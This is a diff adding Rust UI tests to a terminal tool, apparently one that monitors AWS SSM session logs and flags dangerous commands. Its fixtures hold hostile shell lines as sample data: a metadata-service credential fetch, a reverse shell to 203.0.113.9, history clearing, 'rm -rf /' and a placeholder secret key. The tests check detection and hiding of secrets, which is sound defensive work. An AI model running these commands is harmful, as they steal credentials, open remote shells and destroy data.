@@ -3,8 +3,8 @@
 use crossterm::event::KeyCode;
 use ratatui::style::Modifier;
 use ssmwatch::{
-    app::State,
-    domain::{ActOutcome, Observation, Session, SessionStatus},
+    app::{State, view::Focus},
+    domain::{ActOutcome, LogEvent, NoLiveTail, Observation, Session, SessionStatus, TailMode},
     ui::theme::{Glyphs, MONO},
 };
 
@@ -385,4 +385,141 @@ fn without_color_and_without_utf8() {
         let own = cell.symbol().is_ascii() || "␛␇●".contains(cell.symbol());
         assert!(own, "{:?} is not ASCII", cell.symbol());
     }
+}
+
+/// What the tail of a log group shows of a session that is not opened.
+fn hear(state: &mut State, id: &str, lines: &[&str]) {
+    let key = state.board.sessions.keys().find(|key| key.id.as_str() == id).unwrap().clone();
+    let at = state.now - jiff::SignedDuration::from_secs(20);
+    let message = serde_json::json!({"eventVersion": "1.0", "sessionId": id, "sessionData": lines}).to_string();
+    let events = vec![(key.id.clone(), vec![LogEvent { timestamp: at, ingested_at: at, message }])];
+    let now = state.now;
+    let heard = Observation::Tailed { scope: key.scope, log_group: "/ssm-session-logs".into(), events, at: now };
+    world::observe(state, heard, now);
+}
+
+/// Dangerous commands were typed, and one was only printed.
+fn detected(size: (u16, u16)) -> State {
+    let mut state = world::bad_day(size);
+    hear(
+        &mut state,
+        "ansible-0b9a8f7e6d5c4b3a2",
+        &[
+            "sh-5.2$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/gateway",
+            "sh-5.2$ mysql -uroot -phunter2 -e 'select 1'; history -c",
+        ],
+    );
+    hear(&mut state, "tom-0f00ba4f00ba4f00b", &["sh-5.2$ cat notes", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
+    world::select(&mut state, "ansible-0b9a8f7e6d5c4b3a2");
+    state
+}
+
+#[test]
+fn detections_on_the_table_and_in_the_details() {
+    at_all_sizes("detected", |size| {
+        let mut state = detected(size);
+        if size.0 < 120 {
+            world::press(&mut state, KeyCode::Enter);
+        }
+        state
+    });
+    insta::assert_snapshot!("detected_table_80x24", styled(&drawn(&detected((80, 24)), "default-dark", &Glyphs::UTF8)));
+}
+
+#[test]
+fn detections_in_output_are_shown_when_they_are_wanted() {
+    let words = |state: &State| text(&drawn(state, "default-dark", &Glyphs::UTF8));
+    let mut state = detected((200, 60));
+    assert!(!words(&state).contains("CMD-16"), "{}", words(&state));
+    world::press(&mut state, KeyCode::Char('o'));
+    assert!(words(&state).contains("CMD-16"), "{}", words(&state));
+    assert!(!words(&state).contains("hunter2"), "secrets stay hidden");
+}
+
+#[test]
+fn commands_of_a_transcript() {
+    at_all_sizes("commands", |size| {
+        let mut state = opened(size);
+        world::print(&mut state, &["sh-5.2$ rm file\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}sudo ", "sh-5.2$ rm -rf /^C"]);
+        while state.view.focus != Focus::Commands {
+            world::press(&mut state, KeyCode::Tab);
+        }
+        world::press(&mut state, KeyCode::Char('k'));
+        state
+    });
+}
+
+/// Four transcripts side by side, wrapped, one with a gap.
+fn beside(size: (u16, u16)) -> State {
+    let mut state = world::bad_day(size);
+    for (id, lines) in [
+        ("jane.doe-0a1b2c3d4e5f60718", world::SHELL),
+        (
+            "ansible-0b9a8f7e6d5c4b3a2",
+            &["sh-5.2$ export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "ok"][..],
+        ),
+        ("li.wei-01fe23dc45ba6798a", &["sh-5.2$ vi a", "\u{1b}[?1049h\u{1b}[2J~", "\u{1b}[?1049lsh-5.2$ pwd", "/"][..]),
+    ] {
+        world::select(&mut state, id);
+        if state.view.transcript.is_none() {
+            world::press(&mut state, KeyCode::Enter);
+            world::press(&mut state, KeyCode::Tab);
+        }
+        world::print(&mut state, lines);
+        world::press(&mut state, KeyCode::Char('v'));
+        world::press(&mut state, KeyCode::Esc);
+    }
+    let gone = Observation::TranscriptFailed {
+        session: state.view.beside[1].clone(),
+        failure: world::failure(ssmwatch::domain::FailureClass::Gone, "logs:GetLogEvents", "gone"),
+        retry_at: state.now,
+        at: state.now,
+    };
+    let now = state.now;
+    world::observe(&mut state, gone, now);
+    world::select(&mut state, "tom-0f00ba4f00ba4f00b");
+    world::press(&mut state, KeyCode::Char('W'));
+    if size.0 < 120 {
+        world::press(&mut state, KeyCode::Enter);
+        world::press(&mut state, KeyCode::Tab);
+    }
+    world::settle(&mut state);
+    state
+}
+
+#[test]
+fn transcripts_side_by_side() {
+    at_all_sizes("beside", beside);
+}
+
+#[test]
+fn playing_back() {
+    at_all_sizes("playing", |size| {
+        let mut state = opened(size);
+        while state.view.focus != Focus::Transcript {
+            world::press(&mut state, KeyCode::Tab);
+        }
+        world::press(&mut state, KeyCode::Char('R'));
+        world::press(&mut state, KeyCode::Char('+'));
+        world::press(&mut state, KeyCode::Char(']'));
+        world::press(&mut state, KeyCode::Char(' '));
+        state
+    });
+}
+
+#[test]
+fn how_log_groups_are_read_stands_with_their_scopes() {
+    let mut state = on_screen('5')((200, 60));
+    let scope = state.view.scopes.selected.clone().unwrap();
+    let now = state.now;
+    let why = || world::failure(ssmwatch::domain::FailureClass::Denied, "logs:StartLiveTail", "no");
+    let mode = TailMode::Polling { why: NoLiveTail::Failed(why()) };
+    let group = || std::sync::Arc::from("/ssm-session-logs");
+    world::observe(&mut state, Observation::TailMode { scope: scope.clone(), log_group: group(), mode }, now);
+    let from = now - jiff::SignedDuration::from_mins(3);
+    let gap = Observation::TailGap { scope, log_group: group(), from, until: Some(now), filled: false, why: why() };
+    world::observe(&mut state, gap, now);
+    let words = text(&drawn(&state, "default-dark", &Glyphs::UTF8));
+    assert!(words.contains("/ssm-session-logs: polled: denied: logs:StartLiveTail"), "{words}");
+    assert!(words.contains("was not read from ") && words.contains("may not have been detected"), "{words}");
 }
